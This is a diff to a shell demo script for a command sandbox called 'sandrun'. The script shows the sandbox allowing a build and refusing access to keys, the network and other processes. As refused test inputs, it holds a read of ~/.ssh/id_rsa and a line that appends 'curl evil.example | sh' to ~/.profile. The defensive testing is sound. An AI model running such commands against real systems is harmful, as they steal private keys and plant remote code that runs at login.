@@ -22,17 +22,29 @@ printf 'hello: hello.c\n\tcc -O1 -o hello hello.c\n' >Makefile
 step() {
     printf '\n# %s\n' "$1"
 }
-expect() { # STATUS ARGUMENTS-OF-SANDRUN...; status "no" is any failure of the command itself
+# expect STATUS ARGUMENTS-OF-SANDRUN...: run it and show the last line it prints. "refused" is a failure of the command
+# itself, so not one of the statuses by which sandrun says that the command did not run.
+expect() {
     want=$1
     shift
-    echo "\$ sandrun $*"
+    printf '$ sandrun'
+    for word in "$@"; do
+        case $word in
+        *[\ \;\$\"]*) printf " '%s'" "$word" ;;
+        *) printf ' %s' "$word" ;;
+        esac
+    done
     got=0
-    "$sandrun" -q "$@" </dev/null || got=$?
+    "$sandrun" -q "$@" </dev/null >"$place/output" 2>&1 || got=$?
+    printf '\n'
+    grep . "$place/output" | tail -n 2 | sed 's/^/  /'
+    echo "  -> status $got"
     case $want in
-    no) [ "$got" -ne 0 ] && [ "$got" -lt 123 ] && echo "  -> refused (status $got)" && return ;;
-    *) [ "$got" -eq "$want" ] && echo "  -> status $got" && return ;;
+    refused) [ "$got" -gt 0 ] && [ "$got" -lt 123 ] && return ;;
+    *) [ "$got" -eq "$want" ] && return ;;
     esac
-    echo "demo: expected $want, got $got" >&2
+    cat "$place/output"
+    echo "demo: expected $want" >&2
     exit 1
 }
 
@@ -40,23 +52,23 @@ step 'allowed: build and run a program in the current directory'
 expect 0 -- make
 expect 0 -- ./hello
 step 'refused: your keys, and writing outside the current directory'
-expect no -- cat "$HOME/.ssh/id_rsa"
-expect no -- sh -c 'echo "curl evil.example | sh" >>"$HOME/.profile"'
+expect refused -- cat "$HOME/.ssh/id_rsa"
+# shellcheck disable=SC2016 # the shell in the sandbox expands it
+expect refused -- sh -c 'echo "curl evil.example | sh" >>"$HOME/.profile"'
 grep -q evil "$HOME/.profile" && exit 1
 
 step 'a web server on this machine, outside of any sandbox'
-/usr/bin/env python3 -u -m http.server --bind 127.0.0.1 --directory "$place/project" 0 >"$place/log" 2>&1 &
+/usr/bin/python3 -u -m http.server --bind 127.0.0.1 --directory "$place/project" 0 >"$place/log" 2>&1 &
 server=$!
 while ! port=$(sed -n 's/.* port \([0-9]*\) .*/\1/p' "$place/log") || [ -z "$port" ]; do sleep 0.1; done
 fetch="import urllib.request as u; print(u.urlopen('http://127.0.0.1:$port/Makefile').status)"
 step 'refused: the network; allowed: the network for a profile that is for it, or one port'
-expect no -- python3 -c "$fetch" 2>"$place/refused" || exit 1
-tail -n 1 "$place/refused"
-expect 0 -p net-only -- python3 -c "$fetch"
-expect 0 --connect "tcp:$port" -- python3 -c "$fetch"
+expect refused -- /usr/bin/python3 -c "$fetch"
+expect 0 -p net-only -- /usr/bin/python3 -c "$fetch"
+expect 0 --connect "tcp:$port" -- /usr/bin/python3 -c "$fetch"
 
 step 'refused: other processes'
-expect no -- sh -c "kill $server"
+expect refused -- sh -c "kill $server"
 kill -0 $server
 
 step "the status is the command's; the timeout is 124; sandrun's own failure is 125"
